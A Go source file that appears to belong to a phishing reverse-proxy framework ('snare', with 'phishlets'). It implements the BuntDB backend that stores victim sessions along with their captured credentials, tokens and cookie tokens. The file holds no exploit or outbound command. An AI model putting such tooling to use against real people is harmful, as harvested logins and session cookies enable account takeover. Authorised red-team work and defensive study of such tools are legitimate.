package database

import (
	"context"
	"encoding/json"
	"strconv"
	"time"

	"github.com/tidwall/buntdb"

	"github.com/snarelabs/snare/database/storage"
)

// Database is the embedded BuntDB implementation of storage.Storage. It is
// the default backend; the Redis backend in database/storage serves
// distributed deployments.
type Database struct {
	path string
	db   *buntdb.DB
}

var _ storage.Storage = (*Database)(nil)

func NewDatabase(path string) (*Database, error) {
	var err error
	d := &Database{
		path: path,
	}

	d.db, err = buntdb.Open(path)
	if err != nil {
		return nil, err
	}

	d.sessionsInit()

	d.db.Shrink()
	return d, nil
}

func (d *Database) CreateSession(ctx context.Context, sid string, phishlet string, landingURL string, userAgent string, remoteAddr string) error {
	_, err := d.sessionsCreate(sid, phishlet, landingURL, userAgent, remoteAddr)
	return err
}

func (d *Database) GetSession(ctx context.Context, sid string) (*storage.Session, error) {
	return d.sessionsGetBySid(sid)
}

func (d *Database) ListSessions(ctx context.Context) ([]*storage.Session, error) {
	return d.sessionsList()
}

func (d *Database) DeleteSession(ctx context.Context, sid string) error {
	s, err := d.sessionsGetBySid(sid)
	if err != nil {
		return err
	}
	return d.sessionsDelete(s.Id)
}

func (d *Database) UpdateCredentials(ctx context.Context, sid string, creds map[string]string) error {
	return d.sessionsUpdate(sid, func(s *storage.Session) {
		for k, v := range creds {
			s.Credentials[k] = v
		}
	})
}

func (d *Database) UpdateTokens(ctx context.Context, sid string, tokens map[string]string) error {
	return d.sessionsUpdate(sid, func(s *storage.Session) {
		for k, v := range tokens {
			s.Tokens[k] = v
		}
	})
}

func (d *Database) UpdateCookieTokens(ctx context.Context, sid string, tokens map[string]map[string]*storage.CookieToken) error {
	return d.sessionsUpdate(sid, func(s *storage.Session) {
		s.CookieTokens = tokens
	})
}

func (d *Database) UpdateStatus(ctx context.Context, sid string, status string) error {
	return d.sessionsUpdate(sid, func(s *storage.Session) {
		s.Status = status
	})
}

func (d *Database) Cleanup(ctx context.Context) error {
	return d.db.Shrink()
}

func (d *Database) Close() error {
	return d.db.Close()
}

func (d *Database) Flush() {
	d.db.Shrink()
}

func (d *Database) genIndex(tableName string, id int) string {
	return tableName + ":" + strconv.Itoa(id)
}

func (d *Database) getNextId(tableName string) (int, error) {
	var id int = 1
	var err error
	err = d.db.Update(func(tx *buntdb.Tx) error {
		var s_id string
		if s_id, err = tx.Get(tableName + ":0:id"); err == nil {
			if id, err = strconv.Atoi(s_id); err != nil {
				return err
			}
		}
		tx.Set(tableName+":0:id", strconv.Itoa(id+1), nil)
		return nil
	})
	return id, err
}

func (d *Database) sessionsUpdate(sid string, mod func(*storage.Session)) error {
	s, err := d.sessionsGetBySid(sid)
	if err != nil {
		return err
	}
	mod(s)
	s.UpdateTime = time.Now().UTC().Unix()

	jf, _ := json.Marshal(s)
	return d.db.Update(func(tx *buntdb.Tx) error {
		_, _, err := tx.Set(d.genIndex(SessionTable, s.Id), string(jf), nil)
		return err
	})
}
